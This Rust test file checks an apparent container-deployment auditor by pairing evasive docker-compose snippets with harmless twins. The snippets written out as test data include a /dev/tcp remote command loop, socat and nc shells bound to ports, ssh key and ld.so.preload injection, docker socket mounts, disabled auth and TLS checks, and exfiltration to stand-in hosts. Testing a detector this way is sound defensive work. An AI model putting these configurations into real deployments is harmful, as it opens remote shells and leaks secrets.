//! Ways round the rules, each beside a harmless twin: the one is found where it stands, the other is silent.
#![allow(missing_docs)]

mod common;

use common::*;
use veritee_audit::{Audit, Context};
use veritee_model::{Finding, FindingStatus, Severity};

/// What is said and where (a word of place or evidence), the names that the operator chooses, the evasion, its twin.
type Row = (&'static str, &'static str, &'static [&'static str], &'static str, &'static str);

/// `SERVICE` stands for an image that is fixed.
fn document(text: &str, allowed: &[&str]) -> Vec<u8> {
    let image = format!("image: ghcr.io/acme/app@sha256:{}", "3f".repeat(32));
    app_compose(&text.replace("SERVICE", &image), allowed)
}

fn audited(text: &str, allowed: &[&str]) -> Audit {
    let context = Context { events: Some(events(kms(1))), ..Context::default() };
    attested(&document(text, allowed), context)
}

/// What counts: not that there is an environment at all, nor that a port is open in the clear.
fn weighty(audit: &Audit) -> Vec<&Finding> {
    const GENERAL: &[&str] = &["DP-ENV-018", "DP-CFG-009", "DP-ENV-014"];
    let open = |finding: &&Finding| !matches!(finding.status, FindingStatus::Pass | FindingStatus::Info);
    let counts = |finding: &&Finding| {
        finding.severity >= Severity::Medium && !GENERAL.contains(&finding.rule.as_str())
    };
    audit.findings.iter().filter(open).filter(counts).collect()
}

fn said(finding: &Finding) -> String {
    let place = finding.place.as_ref().map(|place| place.path.clone()).unwrap_or_default();
    format!("{} {} {place}: {}", finding.rule, finding.severity, finding.evidence)
}

#[track_caller]
fn all(rows: &[Row]) {
    let mut faults = Vec::new();
    for (rule, token, allowed, evasion, twin) in rows {
        let audit = audited(evasion, allowed);
        let lines: Vec<String> = weighty(&audit).into_iter().map(said).collect();
        if !lines.iter().any(|line| line.starts_with(rule) && line.contains(token)) {
            faults.push(format!("{rule} {token} is not said of\n{evasion}\n  but {lines:#?}"));
        }
        let audit = audited(twin, allowed);
        let lines: Vec<String> = weighty(&audit).into_iter().map(said).collect();
        if !twin.is_empty() && !lines.is_empty() {
            faults.push(format!("of the twin\n{twin}\n  is said {lines:#?}"));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n\n"));
}

/// One service with these keys.
macro_rules! app {
    ($keys:literal) => {
        concat!("services:\n  app:\n    SERVICE\n    ", $keys, "\n")
    };
}

#[test]
fn storage_is_known_by_what_it_is_not_by_how_it_is_written() {
    all(&[
        (
            "DP-CMP-001",
            "volumes.0",
            &[],
            app!("volumes: ['/proc/1/root/run/docker.sock:/c']"),
            app!("volumes: ['cc:/c']\nvolumes: {cc: {}}"),
        ),
        ("DP-CMP-001", "volumes.0", &[], app!("volumes: ['/proc/self/root/proc/1/cwd/var/run:/c:ro']"), ""),
        ("DP-CMP-003", "volumes.0", &[], app!("volumes: ['/srv/docker.sock:/c']"), ""),
        ("DP-CMP-003 high", "volumes.0", &[], app!("volumes: ['/run/systemd/private:/c']"), ""),
        (
            "DP-CMP-003 high",
            "volumes.0",
            &[],
            app!("volumes: ['${PWD}:/w:ro']"),
            app!("volumes: ['ww:/w']\nvolumes: {ww: {}}"),
        ),
        ("DP-CMP-003 critical", "volumes.0", &[], app!("volumes: ['$PWD/.host-shared:/w']"), ""),
        ("DP-CMP-003 high", "volumes.0", &[], app!("volumes: ['${HOME:-/x}:/w:ro']"), ""),
        (
            "DP-CMP-003 critical",
            "driver_opts.o",
            &[],
            app!(
                "volumes: ['tt:/t']\nvolumes: {tt: {driver_opts: {type: overlay, device: overlay, o: 'lowerdir=/dstack:/etc'}}}"
            ),
            app!(
                "volumes: ['tt:/t']\nvolumes: {tt: {driver_opts: {type: tmpfs, device: tmpfs, o: 'size=64m'}}}"
            ),
        ),
        (
            "DP-CMP-012",
            "driver_opts.type",
            &[],
            app!(
                "volumes: ['tt:/t']\nvolumes: {tt: {driver_opts: {type: 9p, device: share, o: 'trans=virtio'}}}"
            ),
            app!("volumes: ['tt:/t']\nvolumes: {tt: {labels: {type: 9p}}}"),
        ),
        (
            "DP-CMP-012",
            "driver_opts.type",
            &[],
            app!("volumes: ['tt:/t']\nvolumes: {tt: {driver_opts: {type: ext4, device: LABEL=x}}}"),
            "",
        ),
    ]);
}

#[test]
fn what_volumes_from_brings_counts_as_the_heirs_own() {
    let from = |mounts: &str| {
        format!(
            "services:\n  app:\n    SERVICE\n    volumes_from: [mid]\n  mid:\n    SERVICE\n    volumes_from: [agent]\n  agent:\n    SERVICE\n    volumes: [{mounts}]\nvolumes: {{dd: {{}}}}\n"
        )
    };
    let audit = audited(&from("'/run:/r:ro'"), &[]);
    for service in ["app", "mid"] {
        let place = format!("services.{service}.volumes_from.0");
        let lines: Vec<String> = weighty(&audit).into_iter().map(said).collect();
        assert!(
            lines.iter().any(|line| line.starts_with("DP-CMP-001") && line.contains(&place)),
            "{lines:#?}"
        );
    }
    assert!(weighty(&audited(&from("'dd:/r:ro'"), &[])).is_empty());
    all(&[("DP-META-012", "volumes_from", &[], app!("volumes_from: ['container:other']"), "")]);
}

#[test]
fn the_machines_own_network_is_no_network_of_the_document() {
    all(&[
        (
            "DP-CMP-012 high",
            "networks.outer.name",
            &[],
            app!("networks: [outer]\nnetworks: {outer: {name: host, external: true}}"),
            app!("networks: [outer]\nnetworks: {outer: {name: inner, internal: true}}"),
        ),
        (
            "DP-CMP-012 high",
            "networks.host.external",
            &[],
            app!("networks: [host]\nnetworks: {host: {external: true}}"),
            "",
        ),
        (
            "DP-CMP-012 high",
            "networks.x.driver",
            &[],
            app!("networks: [x]\nnetworks: {x: {driver: host}}"),
            "",
        ),
    ]);
}

#[test]
fn the_program_that_reads_a_dockerfile_is_an_image_too() {
    let built = |args: &str| {
        format!(
            "services:\n  app:\n    build:\n      dockerfile_inline: |\n        FROM alpine@sha256:{}\n      args: {args}\n",
            "3f".repeat(32)
        )
    };
    for args in
        ["{BUILDKIT_SYNTAX: 'docker.io/acme/frontend:1'}", "['BUILDKIT_SYNTAX=docker.io/acme/frontend:1']"]
    {
        let audit = audited(&built(args), &[]);
        let lines: Vec<String> = weighty(&audit).into_iter().map(said).collect();
        let found = |line: &String| line.starts_with("DP-IMG-009 high") && line.contains("build.args");
        assert!(lines.iter().any(found), "{lines:#?}");
    }
    let pinned = format!("{{BUILDKIT_SYNTAX: 'docker.io/acme/frontend@sha256:{}'}}", "5e".repeat(32));
    for args in [pinned.as_str(), "{BUILDKIT_INLINE_CACHE: '0'}"] {
        let audit = audited(&built(args), &[]);
        assert!(weighty(&audit).iter().all(|finding| finding.severity < Severity::High), "{args}");
    }
}

#[test]
fn a_number_or_switch_that_can_leave_a_gate_out_is_not_harmless() {
    all(&[
        (
            "DP-ENV-021",
            "deploy.replicas",
            &["COUNT"],
            app!("deploy: {replicas: '${COUNT:-1}'}"),
            app!("deploy: {replicas: 1}"),
        ),
        ("DP-ENV-021", "scale", &["COUNT"], app!("scale: ${COUNT:-1}"), app!("scale: 2")),
        (
            "DP-ENV-021",
            "depends_on.gate.required",
            &["WAIT"],
            app!(
                "depends_on: {gate: {condition: service_completed_successfully, required: '${WAIT:-true}'}}\n  gate:\n    SERVICE"
            ),
            app!(
                "depends_on: {gate: {condition: service_completed_successfully, required: true}}\n  gate:\n    SERVICE"
            ),
        ),
        ("DP-ENV-021", "deploy.mode", &["MODE"], app!("deploy: {mode: '${MODE:-global}'}"), ""),
    ]);
}

#[test]
fn a_literal_that_turns_a_check_off_or_hands_out_keys_is_said() {
    all(&[
        (
            "DP-CMP-019 high",
            "environment.SSLKEYLOGFILE",
            &[],
            app!("environment: {SSLKEYLOGFILE: /proc/1/fd/1}"),
            app!("environment: {SSLKEYLOGFILE: /dev/null}"),
        ),
        (
            "DP-CMP-019 high",
            "environment.SKIP_VERIFY",
            &[],
            app!("environment: {SKIP_VERIFY: 'true'}"),
            app!("environment: {SKIP_VERIFY: 'false'}"),
        ),
        (
            "DP-CMP-019 high",
            "environment.AUTH_ENABLED",
            &[],
            app!("environment: {AUTH_ENABLED: 'false'}"),
            app!("environment: {AUTH_ENABLED: 'true'}"),
        ),
        (
            "DP-CMP-019 high",
            "environment.TEE_MODE",
            &[],
            app!("environment: {TEE_MODE: mock}"),
            app!("environment: {TEE_MODE: tdx}"),
        ),
        (
            "DP-CMP-019 medium",
            "environment.LOG_PROMPTS",
            &[],
            app!("environment: {LOG_PROMPTS: '1'}"),
            app!("environment: {LOG_PROMPTS: '0'}"),
        ),
        (
            "DP-CMP-019 medium",
            "environment.NODE_OPTIONS",
            &[],
            app!("environment: {NODE_OPTIONS: '--inspect'}"),
            app!("environment: {NODE_OPTIONS: '--max-old-space-size=2048'}"),
        ),
    ]);
}

#[test]
fn a_harmless_name_is_harmless_while_it_stays_a_value() {
    all(&[
        (
            "DP-CMP-021 critical",
            "services.app.command",
            &["TZ"],
            app!(
                "environment: {TZ: '${TZ}'}\n    command: [sh, -c, 'eval \"export TZ=$$TZ\"; exec /app/serve']"
            ),
            app!("environment: {TZ: '${TZ}'}\n    command: [sh, -c, 'export TZ; exec /app/serve']"),
        ),
        (
            "DP-CMP-021 critical",
            "services.app.command",
            &["LANG"],
            app!("environment: {LANG: '${LANG}'}\n    command: [sh, -c, '$${LANG} x']"),
            "",
        ),
    ]);
}

#[test]
fn a_number_is_harmless_only_where_every_word_of_its_name_is() {
    for name in [
        "PIN_MAX_RETRIES",
        "LOG_BODY_SIZE",
        "VERIFY_INTERVAL",
        "KEY_SIZE",
        "NONCE_TTL",
        "RATE_LIMIT",
        "ADMIN_PORT",
        "MAX_AGE",
        "ANONYMITY_SET_SIZE",
        "PASSWORD_MIN_LENGTH",
        "TRACE_SAMPLE_RATIO",
        "CURRENCY",
        "MIN_PEERS",
    ] {
        let text = format!("services:\n  app:\n    SERVICE\n    environment: ['{name}=${{{name}}}']\n");
        let audit = audited(&text, &[name]);
        let lines: Vec<String> = weighty(&audit).into_iter().map(said).collect();
        assert!(
            lines.len() == 1 && lines.iter().any(|line| line.starts_with("DP-ENV-021")),
            "{name}: {lines:#?}"
        );
    }
    for name in [
        "MAX_TOKENS",
        "MAX_PEERS",
        "TITLE",
        "DESCRIPTION",
        "HTTP_PORT",
        "REDIS_TIMEOUT",
        "DB_POOL_SIZE",
        "WORKER_COUNT",
        "MAX_UPLOAD_SIZE",
    ] {
        let text = format!("services:\n  app:\n    SERVICE\n    environment: ['{name}=${{{name}}}']\n");
        let audit = audited(&text, &[name]);
        assert!(
            weighty(&audit).is_empty(),
            "{name}: {:#?}",
            weighty(&audit).into_iter().map(said).collect::<Vec<_>>()
        );
    }
}

const WAYS_IN: &[Row] = &[
    (
        "DP-CMP-007 critical",
        "services.app.command",
        &[],
        app!("command: [bash, -c, 'exec 3<>/dev/tcp/ctl.acme.io/443; while read -ru3 l; do $$l; done']"),
        app!("command: [bash, -c, 'while read -r l; do echo got; done < /app/list']"),
    ),
    (
        "DP-CMP-007 critical",
        "services.app.command",
        &[],
        app!("command: [socat, 'TCP-LISTEN:9000,fork', 'EXEC:/bin/ash']"),
        app!("command: [socat, 'TCP-LISTEN:9000,fork', 'TCP:web:8080']\n  web:\n    SERVICE"),
    ),
    (
        "DP-CMP-007 critical",
        "services.app.command",
        &[],
        app!("command: [nc, -lke, /bin/sh, '9000']"),
        app!("command: [nc, -z, localhost, '9000']"),
    ),
    (
        "DP-CMP-007 high",
        "services.app.command",
        &[],
        app!("command: [socat, 'TCP-LISTEN:9000,fork', 'UNIX-CONNECT:/run/dstack.sock']"),
        "",
    ),
    (
        "DP-CMP-007 high",
        "services.app.command",
        &[],
        app!("command: [python, -m, http.server, '8000', --directory, /]"),
        app!("command: [python, -m, http.server, '8000', --directory, /app/public]"),
    ),
    (
        "DP-CMP-007 high",
        "services.app.command",
        &[],
        app!("command: [node, '--inspect=0.0.0.0:9229', /app/main.js]"),
        app!("command: [node, '--max-old-space-size=2048', /app/main.js]"),
    ),
    (
        "DP-CMP-007 high",
        "services.app.command",
        &[],
        app!("command: [dlv, exec, /app/serve, --headless, '--listen=:2345']"),
        app!("command: [/app/serve, '--listen=:2345']"),
    ),
    (
        "DP-CMP-007 high",
        "environment.JAVA_OPTS",
        &[],
        app!("environment: {JAVA_OPTS: '-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005'}"),
        app!("environment: {JAVA_OPTS: '-Xmx1g -XX:+UseG1GC'}"),
    ),
    (
        "DP-CMP-007 high",
        "environment.JVM_FLAGS",
        &[],
        app!(
            "environment: {JVM_FLAGS: '-Dcom.sun.management.jmxremote.port=1 -Dcom.sun.management.jmxremote.authenticate=false'}"
        ),
        app!("environment: {JVM_FLAGS: '-Dserver.port=9010'}"),
    ),
    (
        "DP-CMP-007 high",
        "configs.0.target",
        &[],
        app!(
            "configs: [{source: k, target: /home/app/.ssh/authorized_keys}]\nconfigs: {k: {content: 'ssh-ed25519 AAAA'}}"
        ),
        app!("configs: [{source: k, target: /etc/motd}]\nconfigs: {k: {content: hello}}"),
    ),
    (
        "DP-CMP-007 high",
        "configs.k.content",
        &[],
        app!(
            "configs: [{source: k, target: /etc/caddy/Caddyfile}]\nconfigs: {k: {content: '{ admin 0.0.0.0:2019 }'}}"
        ),
        app!(
            "configs: [{source: k, target: /etc/caddy/Caddyfile}]\nconfigs: {k: {content: '{ admin off }'}}"
        ),
    ),
];

#[test]
fn ways_in_are_known_by_what_is_done() {
    all(WAYS_IN);
}

#[test]
fn code_that_is_fetched_is_known_behind_options_too() {
    all(&[
        (
            "DP-CMP-006",
            "services.app.command",
            &[],
            app!("command: [sh, -c, 'crane export ghcr.io/acme/worker:stable - | tar -xC /opt']"),
            app!("command: [sh, -c, 'tar -xf /opt/worker.tar -C /opt']"),
        ),
        (
            "DP-CMP-006",
            "services.app.command",
            &[],
            app!("command: [pnpm, dlx, acme-server]"),
            app!("command: [pnpm, exec, acme-server]"),
        ),
        (
            "DP-CMP-006",
            "services.app.command",
            &[],
            app!("command: [sh, -c, 'git -C /app pull --ff-only; exec python /app/main.py']"),
            app!("command: [sh, -c, 'git -C /app rev-parse HEAD; exec python /app/main.py']"),
        ),
        (
            "DP-CMP-006",
            "services.app.command",
            &[],
            app!("command: [sh, -c, 'python3 -m pip install acme']"),
            app!("command: [sh, -c, 'python3 -m acme install']"),
        ),
        (
            "DP-CMP-006",
            "services.app.command",
            &[],
            app!("command: [uv, run, --with, acme, x.py]"),
            app!("command: [uv, run, x.py]"),
        ),
    ]);
}

#[test]
fn code_and_trust_out_of_a_volume_is_said_and_gravest_where_another_writes() {
    const OTHER: &str = "\n  other:\n    SERVICE\n    volumes: ['dd:/x']\nvolumes: {dd: {}}\n";
    let with =
        |keys: &str| format!("services:\n  app:\n    SERVICE\n    {keys}\n    volumes: ['dd:/data']{OTHER}");
    for (keys, twin) in [
        (
            "environment: {OPENSSL_CONF: /data/openssl.cnf}",
            "environment: {OPENSSL_CONF: /etc/ssl/openssl.cnf}",
        ),
        ("healthcheck: {test: [CMD-SHELL, '. /data/check']}", "healthcheck: {test: [CMD-SHELL, /app/check]}"),
        (
            "command: [sh, -c, 'while :; do [ -f /data/n ] && . /data/n; sleep 60; done']",
            "command: [sh, -c, 'while :; do [ -f /data/n ] && rm /data/n; sleep 60; done']",
        ),
        ("command: [python3, /data/main.py]", "command: [python3, /app/main.py, /data/in]"),
        (
            "command: [java, '-javaagent:/data/a.jar', -jar, /app/a.jar]",
            "command: [java, '-Xmx1g', -jar, /app/a.jar]",
        ),
        ("command: [node, --require, /data/hook.js, /app/main.js]", "command: [node, /app/main.js, /data]"),
        ("environment: {NODE_OPTIONS: '--require=/data/hook.js'}", "environment: {DATA_DIR: /data}"),
    ] {
        let audit = audited(&with(keys), &[]);
        let lines: Vec<String> = weighty(&audit).into_iter().map(said).collect();
        assert!(lines.iter().any(|line| line.starts_with("DP-CMP-023 high")), "{keys}: {lines:#?}");
        let audit = audited(&with(twin), &[]);
        assert!(
            weighty(&audit).is_empty(),
            "{twin}: {:#?}",
            weighty(&audit).into_iter().map(said).collect::<Vec<_>>()
        );
    }
    all(&[
        (
            "DP-CMP-023 medium",
            "environment.OPTS",
            &[],
            app!(
                "environment: {OPTS: '-Djavax.net.ssl.trustStore=/data/ca'}\n    volumes: ['dd:/data']\nvolumes: {dd: {}}"
            ),
            app!(
                "environment: {OPTS: '-Djavax.net.ssl.trustStore=/opt/ca'}\n    volumes: ['dd:/data']\nvolumes: {dd: {}}"
            ),
        ),
        (
            "DP-CMP-023 high",
            "volumes.0",
            &[],
            app!(
                "volumes: ['dd:/usr/local/share/ca-certificates']\n  o:\n    SERVICE\n    volumes: ['dd:/x']\nvolumes: {dd: {}}"
            ),
            app!(
                "volumes: ['dd:/usr/local/share/ca-certificates:ro']\n  o:\n    SERVICE\n    volumes: ['dd:/x:ro']\nvolumes: {dd: {}}"
            ),
        ),
        (
            "DP-CMP-023",
            "configs.r.content",
            &[],
            app!(
                "configs: [{source: r, target: /etc/ld.so.preload}]\n    volumes: ['dd:/data']\nvolumes: {dd: {}}\nconfigs: {r: {content: /data/h.so}}"
            ),
            app!(
                "configs: [{source: r, target: /etc/motd}]\n    volumes: ['dd:/data']\nvolumes: {dd: {}}\nconfigs: {r: {content: /data/h.so}}"
            ),
        ),
    ]);
}

const ADDRESSES: &[Row] = &[
    (
        "DP-URL-002",
        "203.0.113.5",
        &[],
        app!("command: [serve, --host, 203.0.113.5]"),
        app!("command: [serve, --gpu-memory-utilization, '0.8', --top-p, '1.25']"),
    ),
    (
        "DP-URL-002",
        "203.0.113.5",
        &[],
        app!("command: [redis-server, --replicaof, 203.0.113.5, '6379']"),
        app!("command: [redis-server, --maxmemory, '203113']"),
    ),
    (
        "DP-URL-002",
        "acme:users",
        &[],
        app!("command: [rclone, sync, /data, 'acme:users']"),
        app!("command: [rclone, check, /data, /copy]"),
    ),
    (
        "DP-URL-002",
        "collect.acme.io",
        &[],
        app!("command: [nc, collect.acme.io, '99']"),
        app!("command: [app, main.py, --domain=app.acme.io]"),
    ),
    (
        "DP-URL-002",
        "environment.NEXT",
        &[],
        app!("environment: {NEXT: 'https%3A%2F%2Fin.acme.io%2Fv1'}"),
        app!("environment: {NEXT: 'http%3A%2F%2Flocalhost%2Fv1'}"),
    ),
    (
        "DP-URL-002",
        "environment.ROUTE",
        &[],
        app!("environment: {ROUTE: 'aHR0cHM6Ly9pbi5hY21lLmlvL3YxL2luZ2VzdA=='}"),
        app!("environment: {ROUTE: 'aHR0cDovL2xvY2FsaG9zdDo4MDgwL3YxLw=='}"),
    ),
    (
        "DP-URL-002",
        "environment.X",
        &[],
        app!("environment: {X: '{\"h\":\"in.acme.io\"}'}"),
        app!("environment: {X: '{\"h\":\"main.py\"}'}"),
    ),
    (
        "DP-URL-002",
        "environment.X",
        &[],
        app!("environment: {X: '//in.acme.io/v1'}"),
        app!("environment: {X: '//localhost/v1'}"),
    ),
    (
        "DP-URL-002",
        "environment.X",
        &[],
        app!("environment: {X: 'http://localhost/ in.acme.io:443'}"),
        app!("environment: {X: 'http://localhost/ 1:443'}"),
    ),
    (
        "DP-URL-002",
        "environment.X",
        &[],
        app!("environment: {X: '10.514:80'}"),
        app!("environment: {X: '10.5:80'}"),
    ),
    (
        "DP-URL-002",
        "configs.c.content",
        &[],
        app!(
            "configs: [{source: c, target: /fb.conf}]\nconfigs: {c: {content: \"[OUTPUT]\\n    Name forward\\n    Host 203.0.113.77\\n    Port 24224\\n\"}}"
        ),
        app!(
            "configs: [{source: c, target: /fb.conf}]\nconfigs: {c: {content: \"[OUTPUT]\\n    Name file\\n    Path /var/log/all\\n\"}}"
        ),
    ),
    (
        "DP-URL-009",
        "configs.c.content",
        &[],
        app!(
            "configs: [{source: c, target: /e.yaml}]\nconfigs: {c: {content: 'dynamic_resources: {ads_config: {api_type: GRPC}}'}}"
        ),
        app!(
            "configs: [{source: c, target: /e.yaml}]\nconfigs: {c: {content: 'static_resources: {clusters: []}'}}"
        ),
    ),
    (
        "DP-URL-008",
        "configs.c.content",
        &[],
        app!(
            "configs: [{source: c, target: /e.yaml}]\nconfigs: {c: {content: 'tls: {insecure_skip_verify: true}'}}"
        ),
        app!(
            "configs: [{source: c, target: /e.yaml}]\nconfigs: {c: {content: 'tls: {insecure_skip_verify: false}'}}"
        ),
    ),
];

#[test]
fn an_address_is_one_however_it_is_written() {
    all(ADDRESSES);
}

#[test]
fn an_unread_script_of_the_start_is_never_green() {
    let context = || Context { events: Some(events(kms(1))), ..Context::default() };
    let compose = format!("services:\n  app:\n    image: ghcr.io/acme/app@sha256:{}\n", "3f".repeat(32));
    let audit = attested(
        &app_compose_with(&compose, &[], serde_json::json!({"init_script": "echo ready\n"})),
        context(),
    );
    let found = open(&audit, "DP-SCR-002");
    assert!(
        found
            .iter()
            .any(|finding| finding.status == FindingStatus::Manual && finding.severity == Severity::High)
    );
}
